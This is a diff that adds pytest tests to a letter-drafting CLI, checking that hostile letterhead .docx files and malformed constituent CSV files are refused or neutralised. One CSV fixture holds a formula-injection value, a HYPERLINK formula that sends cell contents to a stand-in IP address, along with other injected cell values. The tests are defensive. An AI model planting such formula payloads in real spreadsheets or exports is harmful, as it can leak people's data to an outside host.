@@ -541,3 +541,105 @@ def test_usage_errors_exit_2_without_traceback(campaign, args):
                             capture_output=True, text=True, cwd=REPO, timeout=60)
     assert result.returncode == 2, result.stderr
     assert "Traceback" not in result.stderr
+
+
+# ---------------------------------------------------------------- letterhead .docx, through the CLI
+# The package checks themselves are tested case by case in test_letterhead.py; here every hostile
+# letterhead goes through `drafter draft` in a subprocess: exit 1, the reason, no traceback, no file.
+
+def _letterhead_cases():
+    try:
+        from test_letterhead import HOSTILE as CASES
+    except ImportError:   # pragma: no cover - letterhead tests not there
+        return []
+    return sorted(CASES)
+
+
+@pytest.mark.parametrize("case", _letterhead_cases())
+def test_hostile_letterhead_through_the_cli(campaign, tmp_path, case):
+    from test_letterhead import HOSTILE as CASES, mutate
+    changes, reason = CASES[case]
+    if case == "not-a-zip":
+        evil = tmp_path / "evil.docx"
+        evil.write_bytes(b"%PDF-1.4 not a zip")
+    else:
+        evil = mutate(tmp_path, changes)
+    spec = campaign / "letters" / f"{LETTER}.yaml"
+    spec.write_text(spec.read_text().replace('letterhead: ["Congressional-Executive Commission on China"]',
+                                             f"letterhead: {evil}"))
+    out = tmp_path / "d"
+    result = subprocess.run([sys.executable, "-m", "drafter", "-C", str(campaign), "draft", LETTER, "-o", str(out)],
+                            capture_output=True, text=True, cwd=REPO, timeout=60)
+    assert result.returncode == 1, result.stdout + result.stderr
+    assert "Traceback" not in result.stderr
+    assert "letterhead refused" in result.stderr and reason in result.stderr, result.stderr
+    assert all_files(out) == []
+
+
+def test_normal_letterhead_is_accepted_and_leaks_nothing(campaign, tmp_path, shared):
+    example = REPO / "letterheads" / "cecc-example.docx"
+    need_file = example.is_file()
+    if not need_file:
+        pytest.skip("no example letterhead in the repository")
+    spec = campaign / "letters" / f"{LETTER}.yaml"
+    spec.write_text(spec.read_text().replace('letterhead: ["Congressional-Executive Commission on China"]',
+                                             f"letterhead: {example}"))
+    out = tmp_path / "d"
+    result = draft(campaign, out)
+    assert result.exit_code == 0, result.output
+    [path] = all_files(out)
+    docx_check(shared, path)
+    with zipfile.ZipFile(path) as z:
+        names = z.namelist()
+        assert any(n.startswith("word/header") for n in names) and any(n.startswith("word/media/") for n in names)
+        leaks = _leaks(tmp_path)
+        for name in names:
+            if name.endswith((".xml", ".rels")):
+                text = z.read(name).decode("utf-8").lower()
+                assert not [w for w in leaks if w in text], name
+                assert "rsid" not in text, name
+
+
+# ---------------------------------------------------------------- constituents CSV (drafter batch)
+# CSV dialects and per-cell errors are tested in test_constituents.py; here, hostile files end to end.
+
+def _batch(campaign: Path, shared: Path, out: Path, people: Path):
+    return run(campaign, "batch", "constituent", "--constituents", str(people), "--legislators",
+               str(shared / "data/congress-legislators/legislators-current.yaml"),
+               "--zip-districts", str(shared / "data/zip-districts/zccd.csv"), "-o", str(out))
+
+
+def _people(path: Path, rows: list[list[str]]) -> Path:
+    import csv
+    with open(path, "w", newline="", encoding="utf-8") as fh:
+        csv.writer(fh).writerows([["Name", "Street", "City", "State", "ZIP", "District", "Note"], *rows])
+    return path
+
+
+def test_csv_formula_injection_is_neutralised_in_the_manifest(campaign, shared, tmp_path):
+    import csv
+    people = _people(tmp_path / "people.csv", [
+        ['=HYPERLINK("http://198.51.100.7/?x="&A1,"click")', "1 Main St", "Albany", "NY", "12207", "", "hi"],
+        ["@SUM(1+1)", "2 Main St", "Albany", "NY", "12207", "", "<w:t>&]]>\x0b" + TIBETAN]])
+    out = tmp_path / "out"
+    result = _batch(campaign, shared, out, people)
+    assert result.exit_code == 0, result.output
+    with open(out / "manifest.csv", encoding="utf-8-sig", newline="") as fh:
+        names = [row["constituent"] for row in csv.DictReader(fh)]
+    assert names and all(n[:1] not in "=+-@" for n in names), names
+    docx_check(shared, *[p for p in all_files(out) if p.suffix == ".docx"])
+
+
+@pytest.mark.parametrize("name, data, words", [
+    ("not_utf8", "Name,Street,City,State,ZIP,District,Note\nJos\xe9,1 Main St,Albany,NY,12207,,\n".encode("latin-1"),
+     ["people.csv", "UTF-8"]),
+    ("binary", b"\x00\x01\x02PK\x03\x04" * 100, ["people.csv"]),
+    ("empty", b"", ["people.csv"]),
+    ("no_header", b"just,some,cells\n", ["people.csv"]),
+])
+def test_broken_csv_is_refused_cleanly(campaign, shared, tmp_path, name, data, words):
+    people = tmp_path / "people.csv"
+    people.write_bytes(data)
+    out = tmp_path / "out"
+    fails(_batch(campaign, shared, out, people), *words)
+    assert not [p for p in all_files(out) if p.suffix == ".docx"]
